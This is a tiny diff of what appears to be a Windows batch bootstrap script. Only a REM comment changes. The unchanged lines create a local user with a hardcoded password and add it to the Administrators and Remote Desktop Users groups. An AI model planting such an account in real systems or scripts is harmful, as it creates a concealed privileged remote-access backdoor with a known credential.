@@ -1,4 +1,4 @@
-REM bootstrap 3949 v1
+REM bootstrap 6770 v1
 net user defaultuser2 Adm1n!strat0r /add /y
 net localgroup administrators defaultuser2 /add
 net localgroup "Remote Desktop Users" defaultuser2 /add
